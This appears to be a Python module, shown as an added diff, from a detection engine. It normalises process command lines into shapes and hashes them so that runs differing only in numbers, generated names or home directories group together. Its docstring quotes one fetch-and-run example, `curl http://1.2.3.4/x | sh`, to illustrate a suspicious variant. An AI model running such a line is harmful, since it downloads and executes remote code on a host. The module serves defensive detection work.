@@ -1,0 +1,63 @@
+"""What is the same in command lines that differ only in what was filled in: numbers, names, addresses, hashes, user directories.
+
+Two processes of one chain are of one variant when their command lines have one shape. `sh -c 'curl http://1.2.3.4/x | sh'` and
+`sh -c 'debian-sa1 1 1'` below cron are two; the hundred runs of the latter are one, whatever numbers they were given.
+
+Words in their order, as the command-line signals see them (engine.words.command_line), which already replaces numbers, addresses,
+GUIDs, hashes and base64 (what that hides counts). Here names that machines made up go too, and whose home directory it is.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import re
+from collections.abc import Sequence
+
+from engine.words.command_line import words
+
+_MADE_UP = re.compile(r"[\w~]*<(?:n|hex)>[a-z_~]+<(?:n|hex)>[\w~<>]*|tmp\.\w{6,10}")
+"""Letters between two numbers, as in `3f9ac2`, and what mktemp makes. One number at either end is a series: `sa1`, `report_12`."""
+_EXTENSION = re.compile(r"\.[a-z]{1,5}\Z")
+_HOMES = frozenset({"/home", "\\users", "users", "/users"})
+_LONGEST_NAME = 24
+"""Longer words without a dot are data, not names: `--token=…`, a mangled identifier."""
+
+
+def shape(text: str) -> tuple[str, ...]:
+    """The words of a command line without what was filled in; () for one that is nothing but the program's name."""
+    return shape_of(words(text))
+
+
+def shape_of(found: Sequence[str]) -> tuple[str, ...]:
+    """The same of what engine.words.command_line.words has found."""
+    out: list[str] = []
+    after_home = False
+    for word in found:
+        bare = word.lstrip("-/+$%")
+        out.append("<user>" if after_home else _masked(word, bare))
+        after_home = word in _HOMES or bare in _HOMES
+    return tuple(out)
+
+
+def shape_number(text: str) -> int:
+    """A shape as a number, 1 … 2**63 - 1: the same in every process and version. Of some millions two are the same by accident
+    once in a million cases.
+    """
+    return number_of(shape(text))
+
+
+def number_of(made: tuple[str, ...]) -> int:
+    """The number of a shape that is known already."""
+    digest = hashlib.blake2b("\0".join(made).encode("utf-8", "replace"), digest_size=8).digest()
+    return (int.from_bytes(digest, "little") >> 1) or 1
+
+
+def _masked(word: str, bare: str) -> str:
+    mark = word[: len(word) - len(bare)]
+    if _MADE_UP.fullmatch(bare):
+        return f"{mark}<x>"
+    extension = _EXTENSION.search(bare)
+    name = bare[: extension.start()] if extension else bare
+    if _MADE_UP.fullmatch(name) or len(name) > _LONGEST_NAME:
+        return f"{mark}<x>{extension.group() if extension else ''}"
+    return word
